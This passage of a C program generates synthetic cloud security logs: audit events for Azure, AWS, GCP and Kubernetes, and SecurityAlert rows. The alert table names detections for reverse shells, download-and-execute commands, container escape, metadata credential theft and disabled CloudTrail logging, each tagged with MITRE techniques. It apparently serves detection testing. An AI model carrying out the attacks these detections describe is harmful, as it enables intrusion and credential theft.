    {"DeleteObject", "Delete", "s3"},        {"TerminateInstances", "Delete", "ec2"},
    {"StopLogging", "Update", "cloudtrail"}, {"DeleteTrail", "Delete", "cloudtrail"},
};
static const op_t ops_gcp[] = {
    {"storage.objects.get", "Read", "storage"},
    {"v1.compute.instances.list", "Read", "compute"},
    {"storage.objects.list", "Read", "storage"},
    {"google.container.v1.ClusterManager.GetCluster", "Read", "container"},
    {"v1.compute.instances.insert", "Create", "compute"},
    {"v1.compute.firewalls.patch", "Update", "compute"},
    {"SetIamPolicy", "Update", "cloudresourcemanager"},
    {"google.iam.admin.v1.CreateServiceAccountKey", "Create", "iam"},
    {"v1.compute.instances.delete", "Delete", "compute"},
    {"storage.buckets.delete", "Delete", "storage"},
};
static const op_t ops_k8s[] = {
    {"get", "Read", "pods"},
    {"list", "Read", "pods"},
    {"watch", "Read", "configmaps"},
    {"list", "Read", "secrets"},
    {"patch", "Update", "deployments"},
    {"update", "Update", "configmaps"},
    {"create", "Create", "pods"},
    {"create", "Create", "pods/exec"},
    {"get", "Read", "secrets"},
    {"delete", "Delete", "pods"},
    {"create", "Create", "clusterrolebindings"},
};
static const char *countries[][2] = {
    {"US", "Ashburn"},   {"US", "Seattle"},      {"NL", "Amsterdam"}, {"DE", "Frankfurt am Main"},
    {"GB", "London"},    {"IE", "Dublin"},       {"FR", "Paris"},     {"JP", "Tokyo"},
    {"SG", "Singapore"}, {"IN", "Mumbai"},       {"BR", "Sao Paulo"}, {"CA", "Toronto"},
    {"AU", "Sydney"},    {"SE", "Stockholm"},    {"RU", "Moscow"},    {"CN", "Shanghai"},
    {"KR", "Seoul"},     {"ZA", "Johannesburg"}, {"PL", "Warsaw"},    {"UA", "Kyiv"},
};
static const char *isps[] = {
    "Microsoft Corporation",
    "Amazon.com Inc.",
    "Google LLC",
    "Comcast Cable",
    "Deutsche Telekom AG",
    "Example Hosting B.V.",
    "DigitalOcean LLC",
    "OVH SAS",
    "Hetzner Online GmbH",
    "Orange S.A.",
    "Vodafone",
    "M247 Ltd",
    "Choopa LLC",
    "Tencent Cloud",
};
static const char *agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0 "
    "Safari/537.36",
    "aws-cli/2.15.0 Python/3.11.6 Linux/5.15 exe/x86_64",
    "azure-cli/2.57.0 (Linux) Python/3.11.7",
    "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
    "python-requests/2.31.0",
    "Boto3/1.34.34 md/Botocore#1.34.34 ua/2.0 os/linux Python/3.11.6",
    "google-cloud-sdk gcloud/462.0.1",
    "terraform/1.7.3 (+https://www.terraform.io)",
    "Go-http-client/2.0",
    "kube-controller-manager/v1.29.2",
    "curl/8.5.0",
    "PowerShell/7.4 Az.Accounts/2.15.1",
    "S3Console/0.4",
};

static void gen_audit(uint64_t n)
{
    zipf z_az, z_aws, z_gcp, z_k8s, z_ua, z_upn;
    zipf_init(&z_az, N_ELEMS(ops_azure), 1.2);
    zipf_init(&z_aws, N_ELEMS(ops_aws), 1.2);
    zipf_init(&z_gcp, N_ELEMS(ops_gcp), 1.2);
    zipf_init(&z_k8s, N_ELEMS(ops_k8s), 1.1);
    zipf_init(&z_ua, N_ELEMS(agents), 1.0);
    zipf_init(&z_upn, 480, 1.1);
    for (uint64_t i = 0; i < n; i++) {
        row_begin();
        int64_t ts = row_time(i, n);
        const resource *r = &res[zdraw(&z_res)];
        int k8s = r->compute == 1 && chance(0.5);
        const op_t *op = k8s            ? &ops_k8s[zdraw(&z_k8s)]
                         : r->plat == 0 ? &ops_azure[zdraw(&z_az)]
                         : r->plat == 1 ? &ops_aws[zdraw(&z_aws)]
                                        : &ops_gcp[zdraw(&z_gcp)];
        int ipk = zdraw(&z_ip);
        uint32_t ip = ips[ipk];
        int priv = (ip >> 24) == 10;
        uint64_t iph = mix64(ip);
        int upn = zdraw(&z_upn);
        const char *ua = agents[k8s ? 3 : zdraw(&z_ua)];

        put_s("{");
        kv_ts("Timestamp", ts);
        key("ReportId"), put_c('"'), put_uuid(hash2(0xa0d17, i)), put_c('"');
        kv_s("DataSource", k8s            ? "Kubernetes Audit"
                           : r->plat == 0 ? "Azure"
                           : r->plat == 1 ? "AWS"
                                          : "GCP");
        kv_s("ActionType", op->act);
        kv_s("OperationName", op->op);
        kv_s("ResourceId", r->id);
        key("IPAddress"), put_c('"'), put_ip(ip), put_c('"');
        key("IsAnonymousProxy"), put_s(!priv && iph % 53 == 0 ? "true" : "false");
        kv_s("CountryCode", priv ? "" : countries[iph % N_ELEMS(countries)][0]);
        kv_s("City", priv ? "" : countries[iph % N_ELEMS(countries)][1]);
        kv_s("Isp", priv ? "" : isps[(iph >> 8) % N_ELEMS(isps)]);
        kv_s("UserAgent", ua);
        key("RawEventData"), put_c('{');
        if (k8s) {
            kv_s("kind", "Event"), kv_s("apiVersion", "audit.k8s.io/v1"), kv_s("level", "Metadata");
            key("auditID"), put_c('"'), put_uuid(hash2(0xa1d, i)), put_c('"');
            kv_s("verb", op->op);
            key("user"), put_s("{\"username\":\"");
            if (upn % 3)
                put_s("system:serviceaccount:"), put_s(namespaces[upn % N_ELEMS(namespaces)]),
                    put_c(':'), put_s(words[upn % N_ELEMS(words)]);
            else
                put_upn(upn);
            put_s("\",\"groups\":[\"system:authenticated\"]}");
            key("sourceIPs"), put_s("[\""), put_ip(ip), put_s("\"]");
            kv_s("userAgent", ua);
            key("objectRef"), put_c('{'), kv_s("resource", op->svc),
                kv_s("namespace", namespaces[zdraw(&z_ns)]);
            kv_s("apiVersion", "v1"), put_c('}');
            key("responseStatus"), put_s("{\"code\":"), put_u(chance(0.95) ? 200 : 403), put_c('}');
            kv_ts("requestReceivedTimestamp", ts);
        } else if (r->plat == 0) {
            kv_s("operationName", op->op), kv_s("status", chance(0.97) ? "Succeeded" : "Failed");
            key("caller"), put_c('"'), put_upn(upn), put_c('"');
            key("principalOid"), put_c('"'), put_uuid(hash2(0x0b1, (uint64_t)upn)), put_c('"');
            key("correlationId"), put_c('"'), put_uuid(hash2(0xc0, i)), put_c('"');
            kv_s("subscriptionId", subs[r->acct]);
            key("httpRequest"), put_c('{');
            key("clientIpAddress"), put_c('"'), put_ip(ip), put_c('"');
            kv_s("method", op->svc), put_c('}');
            key("properties"), put_c('{'), kv_s("statusCode", "OK"), kv_s("entity", r->id),
                put_c('}');
        } else if (r->plat == 1) {
            static const char *idt[] = {"AssumedRole", "IAMUser", "AWSService", "Root"};
            int t = upn % 97 == 50 ? 3 : (int)(upn % 3); /* Root is rare */
            kv_s("eventVersion", "1.09");
            key("eventSource"), put_c('"'), put_s(op->svc), put_s(".amazonaws.com\"");
            kv_s("eventName", op->op), kv_s("awsRegion", regions[r->region]);
            key("sourceIPAddress"), put_c('"'), put_ip(ip), put_c('"');
            kv_s("userAgent", ua);
            key("userIdentity"), put_c('{'), kv_s("type", idt[t]);
            key("arn"), put_s("\"arn:aws:iam::"), put_s(aws_accts[r->acct]),
                put_s(t == 3 ? ":root" : ":user/"), t == 3 ? (void)0 : put_account(upn % 300),
                put_c('"');
            kv_s("accountId", aws_accts[r->acct]), put_c('}');
            key("requestParameters"), put_c('{'), kv_s("name", r->name), put_c('}');
            key("readOnly"), put_s(op->act[0] == 'R' ? "true" : "false");
            kv_s("eventType", "AwsApiCall");
            key("eventID"), put_c('"'), put_uuid(hash2(0xe1, i)), put_c('"');
        } else {
            key("protoPayload"), put_c('{'),
                kv_s("@type", "type.googleapis.com/google.cloud.audit.AuditLog");
            kv_s("methodName", op->op);
            key("serviceName"), put_c('"'), put_s(op->svc), put_s(".googleapis.com\"");
            kv_s("resourceName", r->id);
            key("authenticationInfo"), put_s("{\"principalEmail\":\""), put_upn(upn), put_s("\"}");
            key("requestMetadata"), put_s("{\"callerIp\":\""), put_ip(ip),
                put_s("\",\"callerSuppliedUserAgent\":\""), put_s(ua), put_s("\"}}");
            kv_s("severity", op->act[0] == 'R' ? "INFO" : "NOTICE");
            key("logName"), put_s("\"projects/"), put_s(gcp_projects[r->acct]),
                put_s("/logs/cloudaudit.googleapis.com%2Factivity\"");
        }
        put_c('}');
        key("AdditionalFields"), put_c('{');
        if (r->plat == 0 && !k8s)
            key("AccountUpn"), put_c('"'), put_upn(upn), put_c('"');
        else if (r->plat == 1 && !k8s)
            kv_s("AccountId", aws_accts[r->acct]);
        put_c('}');
        put_s("}\n");
    }
}

/* ---- SecurityAlert ------------------------------------------------------- */

typedef struct {
    const char *name, *type, *sev, *tactics, *tech, *sub, *product, *component, *provider;
} alert_t;
static const alert_t alerts[] = {
    {"Suspicious download-and-execute command line", "K8S.NODE_SuspectDownloadExec", "High",
     "Execution", "[\"T1059\"]", "[\"T1059.004\"]", "Azure Security Center", "Containers",
     "Azure Security Center"},
    {"Access to cloud metadata service detected", "K8S.NODE_ImdsCall", "Medium", "CredentialAccess",
     "[\"T1552\"]", "[\"T1552.005\"]", "Azure Security Center", "Containers",
     "Azure Security Center"},
    {"Digital currency mining related behavior detected", "K8S.NODE_DigitalCurrencyMining", "High",
     "Impact", "[\"T1496\"]", "", "Azure Security Center", "Containers", "Azure Security Center"},
    {"Possible reverse shell detected", "K8S.NODE_ReverseShell", "High",
     "Execution,CommandAndControl", "[\"T1059\",\"T1071\"]", "", "Azure Security Center",
     "Containers", "Azure Security Center"},
    {"Container escape attempt via nsenter", "K8S.NODE_ContainerEscape", "High",
     "PrivilegeEscalation", "[\"T1611\"]", "", "Azure Security Center", "Containers",
     "Azure Security Center"},
    {"Suspicious role assignment", "ARM_SuspiciousRoleAssignment", "Medium",
     "Persistence,PrivilegeEscalation", "[\"T1098\"]", "[\"T1098.003\"]", "Azure Security Center",
     "Resource Manager", "Azure Security Center"},
    {"CloudTrail logging disabled", "AWS_CloudTrailStopLogging", "High", "DefenseEvasion",
     "[\"T1562\"]", "[\"T1562.008\"]", "Azure Sentinel", "Scheduled Alerts",
     "ASI Scheduled Alerts"},
    {"Impossible travel activity", "ImpossibleTravel", "Medium", "InitialAccess", "[\"T1078\"]",
     "[\"T1078.004\"]", "Microsoft Cloud App Security", "", "MCAS"},
    {"Service account key created", "GCP_ServiceAccountKeyCreated", "Low", "Persistence",
     "[\"T1098\"]", "[\"T1098.001\"]", "Azure Sentinel", "Scheduled Alerts",
     "ASI Scheduled Alerts"},
    {"Kubernetes secrets enumerated", "K8S_SecretsEnumeration", "Low", "Discovery,CredentialAccess",
     "[\"T1613\",\"T1552\"]", "[\"T1552.007\"]", "Azure Security Center", "Containers",
     "Azure Security Center"},
    {"Anomalous storage key listing", "Storage_AnomalousListKeys", "Informational",
     "CredentialAccess", "[\"T1552\"]", "", "Azure Security Center", "Storage",
     "Azure Security Center"},
    {"Exec into container", "K8S_ExecIntoContainer", "Low", "Execution", "[\"T1609\"]", "",
     "Azure Security Center", "Containers", "Azure Security Center"},
};
static const char *statuses[] = {"New", "InProgress", "Resolved", "Dismissed", "Unknown"};

/* One alert's entities as JSON text, written unescaped; the caller escapes it. */
static void put_entities(const resource *r, int a, uint64_t seed)
{
    int id = 2, host = 2, acct = 0;
    put_s("[{\"$id\":\"2\",\"HostName\":\""), put_s(r->name), put_s("\",");
    if (r->plat == 0)
        put_s("\"AzureID\":\""), put_s(r->id), put_s("\",");
    put_s("\"OSFamily\":\"Linux\",\"Type\":\"host\"}");
    if (chance(0.8)) {
        acct = ++id;
        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Name\":\""),
            put_account(zdraw(&z_acct));
        put_s("\",\"Host\":{\"$ref\":\"2\"},\"Type\":\"account\"}");
    }
    if (chance(0.6)) {
        ++id;
        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"ProcessId\":\""),
            put_u(2 + below(65000));
        put_s("\",\"CommandLine\":\"");
        size_t f = pos;
        put_cmdline(a < 5 ? (int)(seed % N_ELEMS(procs)) : zdraw(&z_proc));
        escape_from(f);
        put_s("\",\"Host\":{\"$ref\":\""), put_u((uint64_t)host), put_c('"'), put_c('}');
        if (acct)
            put_s(",\"Account\":{\"$ref\":\""), put_u((uint64_t)acct), put_s("\"}");
        put_s(",\"Type\":\"process\"}");
    }
    for (int k = (int)below(3); k > 0; k--) {
        ++id;
        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Address\":\""), put_ip(pick_ip()),
            put_s("\",\"Type\":\"ip\"}");
    }
    if (chance(0.3)) {
        ++id;
        const char *w = word();
        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"Name\":\""), put_s(w),
            put_s("\",\"Directory\":\"/tmp/.");
        put_s(w), put_s("\",\"FileHashes\":[{\"Algorithm\":\"SHA256\",\"Value\":\""),
            put_hex(rnd(), 16), put_hex(rnd(), 16);
        put_hex(rnd(), 16), put_hex(rnd(), 16), put_s("\"}],\"Type\":\"file\"}");
    }
    if (chance(0.4)) {
        ++id;
        put_s(",{\"$id\":\""), put_u((uint64_t)id), put_s("\",\"ResourceId\":\""), put_s(r->id);
        put_s("\",\"Type\":\"azure-resource\"}");
    }
    put_c(']');
}

static void gen_alert(uint64_t n)
{
    zipf z_alert;
    zipf_init(&z_alert, N_ELEMS(alerts), 1.0);
    for (uint64_t i = 0; i < n; i++) {
        row_begin();
        int64_t tg = row_time(i, n);
        int64_t start = tg - (int64_t)below(3600) * 1000000 - 300000000,
                end = start + (int64_t)below(300) * 1000000;
        int a = zdraw(&z_alert);
        const alert_t *al = &alerts[a];
        const resource *r = &res[compute_idx[zdraw(&z_comp)]];
        uint64_t h = hash2(0x5a, i);
        size_t f;

        put_s("{");
        key("AlertLink"), put_c('"');
        if (!strcmp(al->product, "Azure Security Center"))
            put_s("https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/"),
                put_uuid(h), put_s("/subscriptionId/"), put_s(subs[r->acct % 12]);
        put_c('"');
        kv_s("AlertName", al->name);
        kv_s("AlertSeverity", al->sev);
        kv_s("AlertType", al->type);
        kv_s("CompromisedEntity", r->name);
        kv_s("ConfidenceLevel", chance(0.5) ? "Unknown" : "");
        key("ConfidenceScore");
        if (chance(0.6))
            put_s("null");
        else
            put_s("0."), put_u(10 + below(90));
        key("Description"), put_s("\"Alert '"), put_s(al->name), put_s("' raised for "),
            put_s(r->name), put_s(".\"");
        kv_s("DisplayName", al->name);
        kv_ts("EndTime", end);
        key("Entities"), put_c('"');
        f = pos;
        put_entities(r, a, h);
        escape_from(f);
        put_c('"');
        kv_s("ExtendedLinks", "");
        key("ExtendedProperties"), put_c('"');
        f = pos;
        put_s("{\"Compromised Host\":\""), put_s(r->name), put_s("\",\"resourceType\":\""),
            put_s(r->compute == 1 ? "Kubernetes Service" : "Virtual Machine"),
            put_s("\",\"Query Period\":\"1h\"}");
        escape_from(f);
        put_c('"');
        key("IsIncident"), put_s("false");
        kv_ts("ProcessingEndTime", tg);
        kv_s("ProductComponentName", al->component);
        kv_s("ProductName", al->product);
        kv_s("ProviderName", al->provider);
        kv_s("RemediationSteps",
             "[\\\"Review the activity on the resource.\\\",\\\"Rotate exposed credentials.\\\"]");
        kv_s("ResourceId", r->plat == 0 ? r->id : "");
        kv_s("SourceComputerId", "");
        kv_s("SourceSystem", "Detection");
        kv_ts("StartTime", start);
        kv_s("Status", statuses[below(10) < 6 ? 0 : below(N_ELEMS(statuses))]);
        key("SubTechniques"), put_c('"'), f = pos, put_s(al->sub), escape_from(f), put_c('"');
        key("SystemAlertId"), put_c('"'), put_uuid(hash2(0x5b, i)), put_c('"');
        kv_s("Tactics", al->tactics);
        key("Techniques"), put_c('"'), f = pos, put_s(al->tech), escape_from(f), put_c('"');
        kv_s("TenantId", tenant);
        kv_ts("TimeGenerated", tg);
        kv_s("Type", "SecurityAlert");
        kv_s("VendorName", "Microsoft");
        key("VendorOriginalId"), put_c('"'),
            put_u(2517000000000000000ULL + (h >> 4) % 1000000000000000ULL), put_c('_'), put_uuid(h),
            put_c('"');
        kv_s("WorkspaceResourceGroup", "");
        kv_s("WorkspaceSubscriptionId", "");
        put_s("}\n");
    }
}

/* ---- driver -------------------------------------------------------------- */

static void usage(void)
{
    fprintf(stderr, "usage: gen --rows N --out DIR [--seed S] "
                    "[--table CloudProcessEvents|CloudAuditEvents|SecurityAlert]\n");
    exit(2);
}

int main(int argc, char **argv)
{
    uint64_t rows = 0, seed = 42;
    const char *dir = NULL, *only = NULL;
    for (int i = 1; i < argc; i++) {
        if (i + 1 >= argc)
            usage();
        if (!strcmp(argv[i], "--rows"))
            rows = strtoull(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--seed"))
            seed = strtoull(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--out"))
            dir = argv[++i];
        else if (!strcmp(argv[i], "--table"))
            only = argv[++i];
        else
            usage();
    }
    if (!rows || !dir)
        usage();
    static const char *names[] = {"CloudProcessEvents", "CloudAuditEvents", "SecurityAlert"};
    int done = 0;
    make_pools(seed); /* one set of pools for every table: joins find matches */
    for (int t = 0; t < 3; t++) {
        if (only && strcmp(only, names[t]))
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s.json", dir, names[t]);
        outf = fopen(path, "wb");
        if (!outf) {
            perror(path);
            return 1;
        }
        rng = seed ^ mix64((uint64_t)t + 1); /* then a stream of the table's own */
        if (t == 0)
            gen_process(rows);
        else if (t == 1)
            gen_audit(rows);
        else
            gen_alert(rows / 10 ? rows / 10 : 1);
        flush_out();
        if (fclose(outf)) {
            perror(path);
            return 1;
        }
        done++;
    }
    if (!done)
        usage();
    return 0;
}
